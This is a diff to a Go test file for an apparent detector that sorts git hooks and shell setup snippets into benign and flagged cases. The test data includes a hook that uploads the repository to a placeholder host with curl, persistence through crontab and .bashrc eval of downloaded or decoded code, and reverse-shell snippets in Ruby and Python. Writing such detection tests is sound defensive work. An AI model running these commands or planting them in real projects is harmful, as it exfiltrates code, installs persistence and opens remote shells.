@@ -57,6 +57,31 @@ func TestFlows(t *testing.T) {
 		{"a.js", "fs.appendFileSync(path.join(home, '.bashrc'), x)", Unasked},
 		{"a.ps1", "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name a -Value b", Unasked},
 
+		// a hook of the project, and the setup of an installed program
+		{"a.sh", hook("npm run lint --silent && npx tsc") + "git config core.hooksPath .githooks", none},
+		{"a.sh", hook("f=$(git diff --cached --name-only | grep '[.]go$')\nif [ -n \"$f\" ]; then\n  gofmt -l $f >&2\nfi"), none},
+		{"a.sh", hook("./scripts/check.sh || { echo 'see https://x.example' >&2; exit 1; }"), none},
+		{"a.sh", hook("npm test\ngit bundle create - HEAD | curl -sT - https://x.example"), Unasked},
+		{"a.sh", hook("/var/tmp/u"), Unasked},
+		{"a.sh", hook("~/.cache/u"), Unasked},
+		{"a.sh", hook("$RUN x"), Unasked},
+		{"a.sh", hook("uv run python -c \"$X\""), Unasked},
+		{"a.sh", hook("echo \"$(x y)\""), Unasked},
+		{"a.sh", hook("npm test > ../x"), Unasked},
+		{"a.sh", hook("git push x main"), Unasked},
+		{"a.sh", "cp -r x/* .githooks/\ngit config core.hooksPath .githooks", Unasked},
+		{"a.sh", "git config core.hooksPath .githooks\ncp -r x/* .githooks/", Unasked},
+		{"a.sh", "git config core.hooksPath .githooks; crontab /tmp/x", Unasked},
+		{"a.sh", "git config core.hooksPath ~/.githooks", Unasked},
+		{"a.sh", "git config core.hooksPath ../.githooks", Unasked},
+		{"a.sh", "grep -q x ~/.bashrc || echo 'eval \"$(starship init bash)\"' >> ~/.bashrc", none},
+		{"a.sh", "echo 'source <(kubectl completion zsh)' >> ~/.zshrc", none},
+		{"a.sh", "echo 'eval \"$(curl -s x init)\"' >> ~/.bashrc", Unasked},
+		{"a.sh", "echo 'eval \"$(base64 -d init)\"' >> ~/.bashrc", Unasked},
+		{"a.sh", "echo 'eval \"$(x init bash | sh)\"' >> ~/.bashrc", Unasked},
+		{"a.sh", "echo 'eval \"$(/tmp/x init bash)\"' >> ~/.bashrc", Unasked},
+		{"a.sh", "echo 'eval \"$(x init bash)\"' >> ~/.bashrc; crontab /tmp/x", Unasked},
+
 		// a shell at the other end
 		{"a.rb", "s = TCPSocket.new('203.0.113.1', 4444)\nexec('/bin/sh -i <&3 >&3')", Pipe},
 		{"a.py", "s = socket.socket()\ns.connect(a)\npty.spawn('/bin/sh')", Pipe},
@@ -135,4 +160,9 @@ func TestFlows(t *testing.T) {
 			}
 		}
 	}
+}
+
+// hook is a shell script that writes a git hook.
+func hook(text string) string {
+	return "cat > .githooks/pre-commit <<'EOF'\n#!/bin/sh\nset -e\n" + text + "\nEOF\nchmod +x .githooks/pre-commit\n"
 }
